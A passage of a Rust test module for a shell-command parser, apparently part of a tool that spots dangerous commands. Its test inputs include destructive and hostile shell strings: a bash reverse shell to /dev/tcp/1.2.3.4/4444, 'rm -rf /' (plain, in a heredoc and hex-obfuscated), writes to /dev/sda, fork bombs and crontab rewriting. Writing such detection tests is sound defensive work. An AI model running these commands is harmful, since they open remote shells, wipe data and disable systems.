        let r = &s.commands[0].redirects;
        assert_eq!(r[0].op, RedirOp::Out);
        assert_eq!(r[0].target.text, "/dev/sda");
        assert_eq!(r[1].op, RedirOp::Dup);
        assert_eq!(r[1].fd, Some(2));
        assert_eq!(r[2].op, RedirOp::Append);
        assert_eq!(r[3].op, RedirOp::In);
        assert_eq!(r[4].target.text, "both");
        let s = parse("> /dev/sda", 0);
        assert!(s.commands[0].words.is_empty());
        assert_eq!(s.commands[0].redirects[0].target.text, "/dev/sda");
        let s = parse("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", 0);
        assert_eq!(s.commands[0].redirects[0].op, RedirOp::Out);
        assert_eq!(
            s.commands[0].redirects[0].target.text,
            "/dev/tcp/1.2.3.4/4444"
        );
    }

    #[test]
    fn heredoc_body() {
        let s = parse("bash <<EOF\nrm -rf /\nEOF\necho done", 0);
        assert_eq!(s.commands[0].redirects[0].target.text, "rm -rf /\n");
        assert_eq!(words(&s)[1], vec!["echo", "done"]);
    }

    #[test]
    fn function_definitions() {
        let s = parse(":(){ :|:& };:", 0);
        assert_eq!(s.functions, vec![":"]);
        let inside: Vec<_> = s
            .commands
            .iter()
            .filter(|c| c.function == Some(0))
            .collect();
        assert_eq!(inside.len(), 2);
        assert_eq!(s.commands.last().unwrap().function, None);
        let s = parse("bomb(){bomb|bomb&};bomb", 0);
        assert_eq!(s.functions, vec!["bomb"]);
        assert_eq!(
            s.commands.iter().filter(|c| c.function == Some(0)).count(),
            2
        );
    }

    #[test]
    fn function_bodies_calls_groups_and_aliases() {
        let s = parse("f() { rm -rf \"$1\"; }; f /", 0);
        assert_eq!(s.function_bodies[0].0, " rm -rf \"$1\"; ");
        assert_eq!(s.called, vec![true]);
        let s = parse("function g { echo hi; }", 0);
        assert_eq!(s.functions, vec!["g"]);
        assert_eq!(s.called, vec![false]);
        let s = parse("function h() { ls; }; h", 0);
        assert_eq!(s.functions, vec!["h"]);
        assert_eq!(s.called, vec![true]);
        // `( .. ) | cmd` and `{ ..; } | cmd`: the group feeds the command.
        let s = parse("(crontab -l; echo x) | crontab -", 0);
        let last = s.commands.last().unwrap();
        assert_eq!(last.words[0].text, "crontab");
        assert_eq!(last.fed_by, Some(0..2));
        let s = parse("{ a; b; } | c", 0);
        assert_eq!(s.commands[2].fed_by, Some(0..2));
        let s = parse("(a); b | c", 0);
        assert!(s.commands.iter().all(|c| c.fed_by.is_none()));
        let s = parse("alias ll='ls -la' x=y; ll", 0);
        assert_eq!(s.aliases[0].0, "ll");
        assert_eq!(s.aliases[0].1, "ls -la");
        assert_eq!(s.aliases[1].0, "x");
    }

    #[test]
    fn ansi_c_quotes_and_comments() {
        let s = parse("$'\\x72\\x6d' -rf / # comment rm", 0);
        assert_eq!(words(&s), vec![vec!["rm", "-rf", "/"]]);
    }

    #[test]
    fn malformed_input_does_not_panic() {
        for src in [
            "\"unterminated",
            "'x",
            "$(",
            "`",
            "(((",
            ")))",
            "a >",
            "<<",
            "${",
            "$'\\x",
            "{ }",
            "() {",
            "x=(",
            "2>",
            "&&&",
            "|||",
            "a\\",
        ] {
            let _ = parse(src, 0);
        }
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let src = "$(".repeat(10_000) + "rm -rf /" + &")".repeat(10_000);
        let s = parse(&src, 0);
        assert!(s.commands.len() <= MAX_DEPTH + 2);
    }
}
